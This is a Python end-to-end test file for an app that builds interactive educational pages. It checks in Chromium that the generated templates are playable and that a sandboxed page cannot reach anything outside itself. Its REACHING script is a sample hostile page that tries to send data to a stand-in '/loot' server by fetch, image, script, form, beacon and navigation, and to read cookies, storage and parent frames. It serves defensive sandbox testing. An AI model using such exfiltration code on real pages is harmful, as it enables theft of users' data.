"""Interactive pages in Chromium: every template is tried and played, and no page reaches anything but itself."""

import json

import httpx
import pytest
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from selenium.webdriver.support.wait import WebDriverWait

from conversation.interactive.framing import document_of, sealed
from conversation.schemas.artifacts import InteractivePage
from tests.e2e.conftest import CHROMIUM
from tests.servers import PATIENCE
from tests.serving import Serve

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

# What a hostile page tries, once it runs; what it reached is written into its own document.
REACHING = """
const reached = [];
const attempt = async (name, work) => {
  try { await work(); reached.push(name); } catch { /* as it should be */ }
};
(async () => {
  await attempt("network", () => fetch(`${HOME}/loot?by=fetch`));
  await attempt("another artifact", async () => {
    const other = await fetch(`${HOME}/other`);
    if (!(await other.text())) throw new Error("nothing");
  });
  await attempt("cookies", () => { if (document.cookie === undefined) throw new Error("none"); });
  await attempt("storage", () => localStorage.setItem("a", "b"));
  await attempt("session storage", () => sessionStorage.setItem("a", "b"));
  await attempt("databases", () => indexedDB.open("a"));
  await attempt("parent", () => parent.document.title);
  await attempt("frames beside", () => parent.frames[1].document.title);
  await attempt("windows", () => { if (!open(`${HOME}/loot?by=window`)) throw new Error("none"); });
  await attempt("scripts from text", () => (0, eval)("1"));
  const picture = new Image();
  picture.src = `${HOME}/loot?by=picture`;
  const script = document.createElement("script");
  script.src = `${HOME}/loot?by=script`;
  document.body.append(script, picture);
  const form = document.createElement("form");
  form.action = `${HOME}/loot?by=form`;
  document.body.append(form);
  form.submit();
  navigator.sendBeacon?.(`${HOME}/loot?by=beacon`);
  document.body.dataset.reached = JSON.stringify(reached);
})();
globalThis.leadAway = () => (location.href = `${HOME}/loot?by=leading%20away`);
"""


def test_a_page_reaches_nothing(browser: Chrome, serve: Serve) -> None:
    """Served as the studio serves it, from the origin of the frame around it; the loot is on another."""
    asked: list[str] = []

    def loot(path: str, _body: bytes) -> tuple[int, dict[str, str], bytes]:
        asked.append(path)
        return 200, {"Access-Control-Allow-Origin": "*", "Content-Type": "text/plain"}, b"loot"

    elsewhere = serve(loot)
    page = InteractivePage(language="en", title="x", html="<h1>x</h1>", js=f'const HOME = "{elsewhere}";\n{REACHING}')
    frames = '<iframe src="/page" sandbox="allow-scripts"></iframe><iframe src="/other"></iframe>'
    policy = "default-src 'self'; frame-src 'self'"

    def studio(path: str, _body: bytes) -> tuple[int, dict[str, str], bytes]:
        kind = {"Content-Type": "text/html"}
        if path == "/page":
            return 200, {**kind, "Content-Security-Policy": sealed(page)}, document_of(page).encode()
        given = {**kind, "Content-Security-Policy": policy, "Set-Cookie": "sessionid=secret"}
        return 200, given, (frames if path == "/" else "<p>another artifact</p>").encode()

    browser.get(serve(studio))
    browser.switch_to.frame(0)
    told = WebDriverWait(browser, PATIENCE).until(
        lambda page: page.find_element(By.TAG_NAME, "body").get_attribute("data-reached")
    )
    assert json.loads(told) == []
    browser.execute_script("leadAway()")  # type: ignore[no-untyped-call]
    browser.switch_to.default_content()
    # The policy of the document around it stops that.
    WebDriverWait(browser, PATIENCE).until(
        lambda page: any(
            "leading%20away" in one["message"] or "frame-src" in one["message"] for one in page.get_log("browser")
        )
    )
    assert asked == []


TURN = "document.querySelector('#turn').click(); return document.querySelector('.card:not([hidden]) .back').hidden"
PLAYS: dict[str, tuple[str, str]] = {
    "Make flash cards about vaccines": ("cards", f"{TURN} === false"),
    "一个关于牛顿的互动小测验网页": (
        "quiz",
        "document.querySelectorAll('[data-right]').forEach((one) => one.click());"
        "document.querySelector('#check').click(); return /(\\d+)[^\\d]+\\1/.test(document.querySelector('#status').textContent)",
    ),
    "An interactive timeline of the Apollo programme": (
        "timeline",
        "const click = (css) => document.querySelector(css).click(); click('#play');"
        "const list = document.querySelector('#events');"
        "for (const at of [...list.children].map((_, place) => place)) {"
        "  const one = list.querySelector(`[data-place='${at}']`);"
        "  while ([...list.children].indexOf(one) > at) one.querySelector('[data-up]').click(); }"
        "click('#check'); return document.querySelector('#status').textContent === 'All in order.'",
    ),
    "A sorting game about vaccines": (
        "sorting",
        "for (const one of document.querySelectorAll('.item')) { one.click();"
        "  document.querySelector(`.group[data-group='${one.dataset.group}'] .put`).click(); }"
        "document.querySelector('#check').click(); return document.querySelectorAll('.is-right').length > 3"
        "  && !document.querySelector('.is-wrong')",
    ),
    "互动配对游戏：宋朝": (
        "matching",
        "for (const one of document.querySelectorAll('#terms button')) { one.click();"
        "  document.querySelector(`#answers [data-pair='${one.dataset.pair}']`).click(); }"
        "return document.querySelector('#status').textContent === '全部配对完成，错了 0 次。'",
    ),
    "画出 y = x^2 - 4 的图像的互动网页": (
        "plotter",
        "return document.querySelector('#status').textContent === 'y1 = −3' && document.querySelectorAll('.curve').length === 1",
    ),
    "画出 y = ax² + bx + c 的互动网页": (
        "plotter",
        "const a = document.querySelector('#sliders input'); a.value = '2'; a.dispatchEvent(new Event('input'));"
        "return [...document.querySelectorAll('#sliders output')].map((one) => one.textContent).join() === 'a = 2,b = 1,c = 1'"
        "  && document.querySelector('#status').textContent === 'y1 = 4'",
    ),
    "A number line page from 0 to 1": (
        "number_line",
        "const own = document.querySelector('#own'); own.value = '3/4'; document.querySelector('#add').click();"
        "return document.querySelector('.mark').getAttribute('cx') === '440'",
    ),
    "关于牛顿的概念图网页": (
        "concept_map",
        "document.querySelector('#nodes button').click(); return !document.querySelector('#said section').hidden",
    ),
    "Virtual dice, three of them: 3 dice": (
        "chance",
        "document.querySelector(\"[data-times='1000']\").click();"
        "return [...document.querySelectorAll('#counts td:nth-child(2)')].reduce((sum, one) => sum + Number(one.textContent), 0) === 1000",
    ),
    "做一个自由落体的模拟": (
        "motion",
        # 20 m: the fall takes the square root of 2 h / g.
        "return document.querySelector('#table tr:last-child td').textContent === '2.02'",
    ),
}


@pytest.fixture(scope="module")
def environment() -> dict[str, str]:
    return {"NOVA_BROWSER": CHROMIUM or "none"}


def test_every_template_is_tried_and_can_be_played(browser: Chrome, address: str) -> None:
    with httpx.Client(base_url=address, timeout=PATIENCE) as client:
        for message, (pattern, play) in PLAYS.items():
            said = client.post("/api/conversation", json={"message": message}).json()
            (made,) = said["artifacts"]
            content = client.get(made["url"]).json()["content"]
            assert (content["pattern"], content["isTried"]) == (pattern, True), message
            browser.set_window_size(500, 900)
            browser.get(f"{address}{made['url']}/page")
            WebDriverWait(browser, PATIENCE).until(lambda page: page.find_elements(By.TAG_NAME, "iframe"))
            browser.switch_to.frame(0)
            WebDriverWait(browser, PATIENCE).until(lambda page: page.find_elements(By.TAG_NAME, "h1"))
            assert browser.execute_script(play) is True, message
            assert browser.execute_script("return document.documentElement.scrollWidth <= innerWidth"), message
            browser.switch_to.default_content()
    problems = [one["message"] for one in browser.get_log("browser") if one["level"] == "SEVERE"]
    assert problems == []
